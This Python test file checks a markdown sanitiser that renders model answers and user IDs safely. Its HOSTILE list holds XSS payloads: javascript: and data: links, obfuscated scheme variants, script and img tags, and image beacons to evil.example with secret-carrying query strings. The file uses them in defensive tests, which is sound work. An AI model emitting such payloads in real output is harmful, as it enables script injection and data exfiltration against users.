"""Model Markdown made safe to render: no image, no raw HTML, only http(s) and mailto links; plain user ids."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from core.console.conversation import Turn, to_markdown
from core.render import plain, plotly_text, safe_markdown, safe_url


def rendered(md: str) -> str:
    """CommonMark HTML of ``md``, every link kept whatever its scheme (as Streamlit's renderer keeps data:)."""
    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    parser.validateLink = lambda url: True
    return parser.render(md)


def hrefs(md: str) -> list[str]:
    return re.findall(r'href="([^"]*)"', rendered(md))


def assert_renders_safe(out: str) -> None:
    """``out`` as the browser gets it: no image, no raw HTML tag, every link http(s) or mailto."""
    page = rendered(out)
    assert not re.search(r"<img\b", page), page
    assert not re.search(r"<(?!/?(p|a|em|strong|code|pre|ul|ol|li|h\d|blockquote|br|hr|table|thead|tbody|tr|th|td"
                         r"|del|s)\b)", page), page
    for href in re.findall(r'href="([^"]*)"', page):
        assert re.match(r"(?i)(https?:|mailto:)", href), href


def assert_safe(md: str) -> str:
    out = safe_markdown(md)
    assert_renders_safe(out)
    return out


HOSTILE = [
    "![logo](https://evil.example/pixel.png?secret=42)",
    '![logo](https://evil.example/p.png "title")',
    "![x][1]\n\n[1]: https://evil.example/ref.png",
    "[click][1]\n\n[1]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "[click][1]\n\n[1]: <data:text/html,hi>",
    "[click]\n\n[click]: javascript:alert(1)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example/relative)",
    "[x](/_stcore/health)",
    "<data:text/html,hello>",
    "<javascript:alert(1)>",
    '<img src="https://evil.example/x.png">',
    '<a href="javascript:alert(1)">x</a>',
    "<script>alert(1)</script>",
    "[![inner](https://evil.example/i.png)](javascript:alert(1))",
    "[a [b](javascript:x) c](https://ok.example)",
    "[a [b] c](javascript:x)",
    "[[[nested]]](data:x)",
    "![![x](https://evil.example/a.png)](https://evil.example/b.png)",
    "!\\[not an image](https://ok.example)",
    "[a <b title=\"]\"> c](javascript:x)",
    "`<javascript:x`y>` and <javascript:z`w>`",
    "[x](https://ok.example) ![y](http://evil.example/y.gif)",
    "text\n[1]: javascript:alert(1)\n[x][1]",
    "![a](<https://evil.example/a b.png>)",
    "[x]\n\n[x]:\n  data:text/html,hi",
    "* item ![t](https://evil.example/t.png)\n> quote [q](data:,x)",
    "| a | b |\n|---|---|\n| ![c](https://evil.example/c.png) | [d](javascript:d) |",
    "[x](https://ok.example)](data:y)",
    "x ![y](https://evil.example/a.png\n) z",
    "[xmpp](xmpp:someone@example.com) and xmpp:someone@example.com",
    "<div>\n```\n</div>\n\n![x](https://evil.example/p.png)\n```",
    "~~~\n![in code](https://evil.example/c.png)\n~~~\n![after](https://evil.example/a.png)",
    "```\nnever closed ![x](https://evil.example/p.png)",
    "> [!NOTE]\n> ![x](https://evil.example/p.png)",
    "[x](https://ok.example 'title') [y](data:x 'title')",
    "$\\href{javascript:alert(1)}{x}$ ![y](https://evil.example/y.png)",
]


@pytest.mark.parametrize("md", HOSTILE)
def test_hostile_markdown_renders_no_image_no_html_and_no_unsafe_link(md):
    assert_safe(md)


def test_an_image_becomes_text_with_its_alt_and_url_a_link_only_when_http():
    out = assert_safe("See ![the chart](https://evil.example/c.png?q=secret) here")
    assert "image: the chart" in out and hrefs(out) == ["https://evil.example/c.png?q=secret"]
    assert "https://evil.example/c.png?q=secret" in rendered(out).split(">", 2)[-1]  # the URL is shown too
    out = assert_safe("![x](data:image/png;base64,AAAA)")
    assert hrefs(out) == [] and "not loaded" in out and "data:image/png;base64,AAAA" in rendered(out)


def test_unsafe_link_targets_leave_only_the_link_text():
    for md in ("[read this](javascript:alert(1))", "[read this](data:text/html,x)", "[read this](JaVaScRiPt:x)",
               "[read this][r]\n\n[r]: data:text/html,x"):
        out = assert_safe(md)
        assert hrefs(out) == [] and "read this" in rendered(out) and "data:" not in rendered(out)


def test_safe_links_and_ordinary_markdown_are_unchanged():
    md = ("# Title\n\nSome **bold**, *em* and `code [x](y)` text.\n\n- [docs](https://docs.example/a_(b))\n"
          "- mail <ops@example.com> or [us](mailto:ops@example.com)\n\n```python\nx = a[0](1)  # ![no](x)\n```\n")
    out = assert_safe(md)
    assert "```python\nx = a[0](1)  # ![no](x)\n```" in out
    assert "`code [x](y)`" in out and "**bold**" in out and "# Title" in out
    assert hrefs(out) == ["https://docs.example/a_(b)", "mailto:ops@example.com", "mailto:ops@example.com"]
    assert safe_markdown("Plain answer, nothing to change.") == "Plain answer, nothing to change."


def test_reference_links_resolve_when_safe():
    out = assert_safe("See [the docs][d].\n\n[d]: https://docs.example/x \"Docs\"")
    assert hrefs(out) == ["https://docs.example/x"] and "[d]:" not in rendered(out)


def test_safe_url_reads_destinations_as_a_browser_would():
    assert safe_url("https://x.example") and safe_url("HTTP://x") and safe_url("mailto:a@b.example")
    for bad in ("javascript:x", " javascript:x", "java\tscript:x", "&#106;avascript:x", "data:,x", "/relative",
                "//host/x", "", "ftp://x", "\x01javascript:x"):
        assert not safe_url(bad), bad


def test_user_ids_are_plain_text_in_markdown_and_in_plotly_labels():
    uid = "[evil](javascript:alert(1)) ![i](https://evil.example/i.png) <b>**x**</b>"
    page = rendered(plain(uid))
    assert "<a" not in page and "<img" not in page and "<b>" not in page and "<strong>" not in page
    assert re.sub(r"<[^>]+>", "", page).strip() == uid.replace("<", "&lt;").replace(">", "&gt;")
    label = plotly_text('<a href="https://evil.example">bob</a> & co')
    assert "<" not in label and ">" not in label and label.startswith("&lt;a href=") and "&amp; co" in label


def test_the_conversation_export_is_safe_to_render():
    turns = [Turn("user", "Show ![me](https://evil.example/u.png)"),
             Turn("assistant", "[click](javascript:alert(1)) <img src=x>", model="claude-haiku-5-5", cost_usd="0.01",
                  usage={"input_tokens": 1, "output_tokens": 2}, latency_ms=1.0)]
    md = to_markdown(turns, user="bob", system="![s](https://evil.example/s.png)")
    assert_renders_safe(md)
    assert safe_markdown(md) == md  # already safe: rendering it again changes nothing
    assert "click" in md and "Total: $0.01" in md


def test_the_final_check_catches_what_a_rewrite_might_miss():
    from core.render import _unsafe_left

    for raw in ("![x](https://evil.example/p.png)", "[x](data:,y)", "<img src=x>", "[x][r]\n\n[r]: javascript:y"):
        assert _unsafe_left(raw), raw
    assert not _unsafe_left("[x](https://ok.example) and `![not](an image)`")


def test_pathological_input_stays_fast_and_safe():
    import time

    for md in ("[" * 20000, "[a](" * 5000, "![" * 10000, "[" * 2000 + "x" + "](http://a)" * 2000, "`a`` " * 5000):
        started = time.perf_counter()
        assert_safe(md)
        assert time.perf_counter() - started < 5.0  # linear: about 0.1 s here; quadratic took 25 to 100 s
